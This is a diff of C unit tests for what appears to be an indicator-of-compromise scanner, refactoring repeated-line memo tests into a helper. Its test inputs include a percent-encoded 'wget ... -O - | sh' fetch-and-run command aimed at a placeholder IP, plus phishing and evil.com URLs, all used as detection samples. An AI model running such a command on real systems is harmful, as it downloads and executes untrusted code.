@@ -3544,32 +3544,39 @@ test_memo_contexts(void **state)
 	buf_release(&b);
 }
 
-/* A wrapped link read again and again: its target each time, as
- * without the memo (whose targets are read after the text: the order
- * is the whole text's, so ioc_scan is the reference here). */
+/* line read five times, with the memo and without (ioc_scan, whose
+ * wrapped targets are read after the text too: the order is the whole
+ * text's): the same, n indicators, each counted five times. */
 static void
-test_memo_wrapped(void **state)
+five_times(const char *what, const char *line, size_t n)
 {
-	static const char line[] = "see https://nam02.safelinks.protection"
-	    ".outlook.com/?url=http%3A%2F%2Fphish.example.com%2Flogin&data=x"
-	    " and http://evil.com/a\n";
 	struct ioc_set *into, *cb;
 	struct buf b = BUF_INIT;
-	int i;
+	size_t i;
 
-	(void)state;
 	for (i = 0; i < 5; i++)
 		buf_addstr(&b, line);
 	scan_both(b.data, b.len, &into, &cb);
-	assert_sets_equal("wrapped", cb, into);
-	/* the wrapper's URL and host, the other URL and host, the
-	 * target's URL and host */
-	assert_int_equal(ioc_set_count(into), 6);
-	for (i = 0; i < 6; i++)
-		assert_int_equal(ioc_set_get(into, (size_t)i)->count, 5);
+	assert_sets_equal(what, cb, into);
+	assert_int_equal(ioc_set_count(into), n);
+	for (i = 0; i < n; i++)
+		assert_int_equal(ioc_set_get(into, i)->count, 5);
 	ioc_set_free(into);
 	ioc_set_free(cb);
 	buf_release(&b);
+}
+
+/* A wrapped link read again and again: its target each time, as
+ * without the memo. */
+static void
+test_memo_wrapped(void **state)
+{
+	(void)state;
+	/* the wrapper's URL and host, the other URL and host, the
+	 * target's URL and host */
+	five_times("wrapped", "see https://nam02.safelinks.protection"
+	    ".outlook.com/?url=http%3A%2F%2Fphish.example.com%2Flogin&data=x"
+	    " and http://evil.com/a\n", 6);
 }
 
 /* ... and a link percent-encoded outside a URL, read after the scan,
@@ -3577,23 +3584,10 @@ test_memo_wrapped(void **state)
 static void
 test_memo_encoded(void **state)
 {
-	static const char line[] = "cmd=wget%20http%3A%2F%2F198.51.100.9"
-	    "%2Fx86%20-O%20-%7Csh and 203.0.113.7\n";
-	struct ioc_set *into, *cb;
-	struct buf b = BUF_INIT;
-	int i;
-
 	(void)state;
-	for (i = 0; i < 5; i++)
-		buf_addstr(&b, line);
-	scan_both(b.data, b.len, &into, &cb);
-	assert_sets_equal("encoded", cb, into);
-	assert_int_equal(ioc_set_count(into), 3);	/* url, its ipv4, ipv4 */
-	for (i = 0; i < 3; i++)
-		assert_int_equal(ioc_set_get(into, (size_t)i)->count, 5);
-	ioc_set_free(into);
-	ioc_set_free(cb);
-	buf_release(&b);
+	/* the URL, its address, the other address */
+	five_times("encoded", "cmd=wget%20http%3A%2F%2F198.51.100.9"
+	    "%2Fx86%20-O%20-%7Csh and 203.0.113.7\n", 3);
 }
 
 /* A token seen a thousand times is counted a thousand times, and where
